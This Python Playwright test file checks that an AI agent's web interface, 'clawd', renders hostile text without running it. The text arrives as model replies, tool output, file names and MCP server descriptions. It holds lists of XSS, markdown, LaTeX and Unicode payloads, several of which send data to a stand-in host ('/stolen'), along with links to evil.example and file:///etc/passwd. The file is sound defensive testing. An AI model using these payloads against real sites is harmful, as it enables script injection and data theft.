"""Hostile text of models, tools, file names and titles: nothing of it runs, and nothing leaves."""

import base64
import json
import random
import sys
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.support import mcp_server
from tests.support.home import Home
from tests.web.conftest import Shown, gateway

pytestmark = [pytest.mark.daemon, pytest.mark.page]

CALL = "fetch('http://127.0.0.1:9/stolen');document.title='owned'"
HTML = [
    f"<script>{CALL}</script>",
    f'<img src=x onerror="{CALL}">',
    f'<svg onload="{CALL}"><script>{CALL}</script></svg>',
    f'<iframe srcdoc="<script>{CALL}</script>"></iframe>',
    f'<details open ontoggle="{CALL}">x</details>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{CALL}">',
    "<style>*{display:none!important}</style>",
    '<link rel=stylesheet href="http://127.0.0.1:9/a.css">',
    '<meta http-equiv=refresh content="0;url=http://127.0.0.1:9/">',
    '<base href="http://127.0.0.1:9/">',
    '<form action="http://127.0.0.1:9/"><input name=a><button>send</button></form>',
    f'<a href="javascript:{CALL}">x</a>',
    f'<object data="data:text/html,<script>{CALL}</script>"></object>',
    '<video src="http://127.0.0.1:9/v"></video><audio autoplay src="http://127.0.0.1:9/a">',
    "</code></pre></div><script>document.title='owned'</script>",
    "<!--><script>document.title='owned'</script>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=document.title='owned'>\">",
    "<template><script>document.title='owned'</script></template>",
]
PAGE = base64.b64encode(f"<script>{CALL}</script>".encode()).decode()
MARKDOWN = [
    "![x](http://127.0.0.1:9/pixel.png)",
    "![x][ref]\n\n[ref]: http://127.0.0.1:9/pixel.png",
    f"[x](javascript:{CALL.replace('(', '%28').replace(')', '%29')})",
    "[x](JaVaScRiPt:alert%281%29)",
    "[x](&#106;avascript:alert%281%29)",
    "[x](java\tscript:alert%281%29)",
    f"[x](data:text/html;base64,{PAGE})",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[https://good.example](https://evil.example/)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    f'```html"><script>{CALL}</script>\ncode\n```',
    "```\nunclosed fence",
    "`" * 200 + "x" + "`" * 199,
    "[" * 5_000,
    "*" * 5_000 + "a" + "_" * 5_000,
    "> " * 400 + "deep",
    "\n".join("  " * depth + "- item" for depth in range(300)),
    "|" * 3_000 + "\n" + "|-" * 1_500 + "\n" + "|x" * 1_500,
    f"$\\href{{javascript:{CALL}}}{{x}}$",
    "$$\\def\\a{\\a\\a}\\a$$",
    "$\\includegraphics{http://127.0.0.1:9/x.png}$",
    f"$\\html{{<img src=x onerror={CALL}>}}$",
    "$" + "{" * 900 + "x" + "}" * 900 + "$",
    "$\\rule{10000em}{10000em}$",
]
TEXT = [
    "\u202egnp.exe\u202c and \u2066isolated\u2069",
    "\u200bzero\u200dwidth\ufeff",
    "\x1b]0;owned\x07\x1b[2J",
    "a" + "\u0301" * 2_000,
    "\U000e0041\U000e0042 tags",
    "x" * 1_000_000,
    "word " * 100_000,
    "\n" * 50_000,
    "| a " * 20_000,
    "1. x\n" * 20_000,
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x202e;",
    "constructor __proto__ toString",
    "\ud83d\ude00" * 1_000,
]
GROUPS = ("model", "tool", "file name")


def corpus() -> list[str]:
    """Return two hundred texts: those above, alone and within each other."""
    drawn = random.Random(11)
    found = [*HTML, *MARKDOWN, *TEXT]
    short = [text for text in found if len(text) < 2_000]
    while len(found) < 200:
        first, second = drawn.sample(short, 2)
        form = drawn.choice(
            ["{}\n\n{}", "**{}** {}", "- {}\n- {}", "> {}\n\n{}", "| {} |\n|-|\n| {} |"]
        )
        found.append(form.format(first, second))
    return found


WATCH = """
window.broken = [];
document.addEventListener('securitypolicyviolation', event => window.broken.push(
    event.violatedDirective + ' ' + event.blockedURI));
"""


@pytest.mark.timeout(900)  # two hundred turns in a browser take two minutes of an idle machine
def test_nothing_of_a_models_text_runs_or_leaves(home: Home, shown: Shown) -> None:
    texts = corpus()
    home.configure(
        *({"when": f"case {at}.", "text": text} for at, text in enumerate(texts)), tables=gateway()
    )
    home.start()
    shown.page.add_init_script(WATCH)
    page = shown.visit()
    url = shown.url  # asking the daemon takes a connection
    wrong = []
    for first in range(0, len(texts), 20):
        page.locator("nav .wide").first.click()
        page.locator(".welcome").wait_for()
        for at in range(first, first + 20):
            shown.say(f"case {at}.")
            # With this row the turn begins on the page; text of blanks leaves no row of its own.
            expect(page.locator(".message.user").last).to_contain_text(f"case {at}.")
            expect(page.locator(".pill")).to_contain_text("ready")
            if page.title() != "clawd" or page.url.split("#")[0] != f"{url}/":
                wrong.append((at, texts[at][:80]))
    assert not wrong, wrong
    left = [each for each in shown.elsewhere() if not each.startswith("blob:")]
    assert not left, left
    assert page.evaluate("window.broken") == []
    made = ("script", "iframe", "img", "style", "object", "video", "form form")
    inside = ", ".join(f".messages {name}" for name in made)
    assert page.locator(inside).count() == 0
    shown.say("case 0.")
    expect(page.locator("#field")).to_be_visible()


def test_nothing_of_a_tools_text_runs_or_leaves(home: Home, shown: Shown) -> None:
    texts = [text for text in corpus()[: len(HTML) + len(MARKDOWN)] if "\0" not in text]
    (home.workspace / "all.txt").write_text("\n".join(texts), encoding="utf-8")
    for at, text in enumerate(HTML):
        name = text.replace("/", "_")[:80]
        (home.workspace / f"{at} {name}").write_text("x", encoding="utf-8")
    home.configure(
        {"when": "list", "tool_calls": [{"name": "file_list", "arguments": {"path": "."}}]},
        {"when": "list", "after": "tool", "text": "{{last_tool_result}}"},
        {"when": "read", "tool_calls": [{"name": "file_read", "arguments": {"path": "all.txt"}}]},
        {"when": "read", "after": "tool", "text": "{{last_tool_result}}"},
        tables=gateway(),
    )
    home.start()
    shown.page.add_init_script(WATCH)
    page = shown.visit()
    for count, word in enumerate(("list", "read"), start=1):
        shown.say(word)
        expect(page.locator(".message.assistant footer")).to_have_count(count, timeout=60_000)
    for call in page.locator(".call summary").all():
        call.click()
    page.locator(".tab", has_text="Receipts").click()
    page.locator(".timeline .row").first.click()
    page.locator(".opened").wait_for()
    assert page.title() == "clawd"
    assert shown.elsewhere() == []
    assert page.evaluate("window.broken") == []


def test_nothing_of_the_files_that_calls_changed_runs_or_leaves(home: Home, shown: Shown) -> None:
    names = [f"{at} {text.replace('/', '_')[:80]}" for at, text in enumerate(HTML)]
    content = "\n".join([*HTML, *MARKDOWN[:14], TEXT[0], TEXT[1]])
    write = [
        {"name": "file_write", "arguments": {"path": name, "content": content}} for name in names
    ]
    home.configure(
        {"when": "write", "tool_calls": write},
        {"when": "write", "after": "tool", "text": "Done."},
        tables=gateway() + '\n[security]\nautonomy = "full"',
    )
    home.start()
    shown.page.add_init_script(WATCH)
    page = shown.visit()
    shown.say("write")
    expect(page.locator(".message.assistant")).to_contain_text("Done.")
    written = sorted(path.name for path in home.workspace.iterdir())
    assert written
    page.locator(".touched summary").click()
    rows = page.locator(".touched li")
    expect(rows).to_have_count(len(written))
    for row in rows.all():
        row.get_by_role("button", name="Changes").click()
        expect(row.locator(".diff .line.plus").first).to_contain_text(HTML[0])
    assert "⟨U+202E⟩" in rows.first.inner_text()
    (home.workspace / written[0]).write_text("of somebody else")
    shut = page.get_by_role("button", name=f"Changes {written[0]}", exact=True)
    shut.click()
    shut.click()
    expect(page.locator(".touched figcaption", has_text="kept no longer")).to_have_count(1)
    inside = ", ".join(f".touched {name}" for name in ("script", "iframe", "img", "style", "svg"))
    assert page.locator(inside).count() == 0
    assert page.title() == "clawd"
    assert shown.elsewhere() == []
    assert page.evaluate("window.broken") == []


SERVER = """
import json, sys
from pathlib import Path
sys.path.insert(0, {support!r})
import mcp_server
tools = json.loads(Path(__file__).with_name("tools.json").read_text("utf-8"))
mcp_server.tools[:] = tools
answer = mcp_server.answer
def hostile(method, params):
    found = answer(method, params)
    if method == "initialize":
        words = tools[0]["description"]
        found["serverInfo"] = {{"name": words, "version": words}}
        found["instructions"] = words
    return found
mcp_server.answer = hostile
mcp_server.main()
"""


def hostile_server(home: Home) -> str:
    """Write an MCP server whose every word is of the corpus, and return its table."""
    folder = home.workspace.parent / "server"
    folder.mkdir()
    texts = [text for text in corpus() if len(text) < 20_000]
    names = [f"tool{at}" for at in range(len(texts))] + HTML + TEXT[:4]
    tools = [
        {
            "name": name,
            "description": text,
            "inputSchema": {
                "type": "object",
                "title": text,
                "properties": {text[:80]: {"type": "string", "description": text}},
            },
            "annotations": {"title": text},
        }
        for name, text in zip(names, texts + texts, strict=False)
    ]
    (folder / "tools.json").write_text(json.dumps(tools), encoding="utf-8")
    support = str(Path(mcp_server.__file__).parent)
    (folder / "server.py").write_text(SERVER.format(support=support), encoding="utf-8")
    command = json.dumps([sys.executable, str(folder / "server.py")])
    seen = json.dumps([str(folder), support, sys.prefix, sys.base_prefix])
    return f"\n[mcp.servers.hand]\ncommand = {command}\nreadonly_paths = {seen}\n"


@pytest.mark.sandbox
def test_nothing_that_an_mcp_server_says_runs_or_leaves(home: Home, shown: Shown) -> None:
    call = {"name": "hand__tool0", "arguments": {HTML[0][:80]: HTML[2]}}
    home.configure({"tool_calls": [call]}, {"text": "Done."}, tables=gateway(hostile_server(home)))
    home.start()
    shown.page.add_init_script(WATCH)
    page = shown.visit()
    page.locator(".tab", has_text="Machine").click()
    server = page.locator("[data-server=hand]")
    expect(server).to_contain_text("ready")
    server.get_by_role("button", name="Tools hand").click()
    tools = server.locator(".inner > li > button")
    tools.first.wait_for()
    for at in range(0, tools.count(), 7):  # each part of the corpus, in its own words
        tools.nth(at).click()
        expect(tools.nth(at)).to_have_attribute("aria-expanded", "true")
        expect(server.locator("pre")).to_have_count(2)
    inside = ", ".join(f".part {name}" for name in ("script", "iframe", "img", "style", "object"))
    assert page.locator(inside).count() == 0
    page.locator(".tab", has_text="Chat").click()
    shown.say("call it")
    page.locator(".card").wait_for()
    page.keyboard.press("n")
    page.locator(".call.denied summary").click()
    expect(page.locator(".message.assistant")).to_contain_text("Done.")
    page.locator(".tab", has_text="Receipts").click()
    page.locator(".timeline .row").first.click()
    page.locator(".opened").wait_for()
    assert page.title() == "clawd"
    assert shown.elsewhere() == []
    assert page.evaluate("window.broken") == []


def test_a_link_is_shown_before_it_is_followed(home: Home, shown: Shown) -> None:
    home.configure({"text": "[https://good.example](https://evil.example/x)"}, tables=gateway())
    home.start()
    page = shown.visit()
    shown.say("hi")
    page.locator(".message.assistant button.link").click()
    expect(page.locator(".dialog")).to_contain_text("https://evil.example/x")
    page.keyboard.press("Escape")
    expect(page.locator(".dialog")).to_have_count(0)
    assert len(shown.context.pages) == 1


def test_a_frame_of_another_page_stays_empty(home: Home, shown: Shown) -> None:
    home.configure(tables=gateway())
    home.start()
    page = shown.open()
    page.set_content(f'<iframe src="{shown.url}/"></iframe>')
    page.wait_for_timeout(500)
    frame = page.frames[1]
    assert "clawd" not in (frame.content() if "chrome-error" not in frame.url else "")
    shown.wrong.clear()  # the refusal itself is told there
